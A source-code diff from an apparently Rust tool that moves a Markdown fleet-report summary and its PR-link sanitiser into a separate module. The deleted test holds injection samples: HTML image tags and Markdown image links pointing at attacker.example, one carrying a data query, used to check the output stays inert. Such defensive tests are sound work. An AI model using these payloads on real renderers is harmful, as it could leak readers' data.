@@ -3,8 +3,10 @@
 
 use junit_report::{ReportBuilder, TestCaseBuilder, TestSuiteBuilder};
 use serde::{Deserialize, Serialize};
-use std::fmt::Write as _;
 use std::path::Path;
+
+mod summary;
+pub use summary::summary;
 
 /// A repository's outcome.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
@@ -171,48 +173,6 @@ fn junit(r: &FleetReport) -> std::io::Result<String> {
         .map_err(std::io::Error::other)
 }
 
-fn summary(r: &FleetReport) -> String {
-    let mut s = String::new();
-    let icon = if r.exit_code == 0 { "✅" } else { "❌" };
-    let counts: Vec<String> = r.counts.iter().map(|(k, v)| format!("{v} {k}")).collect();
-    let cost = r.cost_usd.map(|c| format!("; cost {}", crate::spec::pricing::dollars(c))).unwrap_or_default();
-    let _ = writeln!(
-        s,
-        "## {icon} hone fleet: {} — {} repositories ({}){cost}\n",
-        crate::markdown::code(&r.job),
-        r.repos.len(),
-        counts.join(", ")
-    );
-    let _ = writeln!(s, "| Repository | Status | PR | Time | Tokens | Error |\n|---|---|---|---|---|---|");
-    for repo in &r.repos {
-        let pr = repo.pr_url.as_deref().map(pr_link).unwrap_or_default();
-        // An error may quote a command's output or a repository's text: plain text in the cell.
-        let err = repo
-            .error
-            .as_deref()
-            .map(|e| format!("{}: {}", repo.code.map_or("", |c| c.as_str()), crate::markdown::text(e)))
-            .unwrap_or_default();
-        let resumed = if repo.resumed { " (resumed)" } else { "" };
-        let _ = writeln!(
-            s,
-            "| {} | {}{resumed} | {pr} | {:.1}s | {} | {err} |",
-            crate::markdown::code_cell(&repo.source),
-            repo.status.as_str(),
-            repo.duration_ms as f64 / 1000.0,
-            repo.tokens
-        );
-    }
-    s
-}
-
-/// A PR's URL in a table cell: a link when it is a plain web URL, else shown as code (a
-/// `fleet.json` is data: its URL could close the link and open an image or HTML).
-fn pr_link(url: &str) -> String {
-    let plain = (url.starts_with("https://") || url.starts_with("http://"))
-        && url.chars().all(|c| c.is_ascii_alphanumeric() || "-._~:/?#@!$&'*+,;=%".contains(c));
-    if plain { format!("[link]({url})") } else { crate::markdown::code_cell(url) }
-}
-
 /// Merge shard reports into one aggregate.
 pub fn merge(reports: Vec<FleetReport>) -> Option<FleetReport> {
     let first = reports.first()?.clone();
@@ -256,18 +216,6 @@ pub(crate) mod tests {
             resumed: false,
             dry_run: false,
         }
-    }
-
-    #[test]
-    fn the_summary_renders_nothing_a_repository_wrote() {
-        let mut bad = repo("x", RepoStatus::Failed);
-        bad.source = "https://example.com/a|`<img src=y>`".into();
-        bad.error = Some("check failed:\n![](http://attacker.example/?d=1) <!-- hidden --> | broken".into());
-        bad.pr_url = Some("https://x/)![i](http://attacker.example/a.png)".into());
-        let r = build("job` <img src=x> `", "h", String::new(), 0, vec![bad], false);
-        let md = summary(&r);
-        assert!(crate::markdown::is_inert(&md), "{md}");
-        assert_eq!(md.lines().filter(|l| l.starts_with('|')).count(), 3, "the table stays whole: {md}");
     }
 
     #[test]
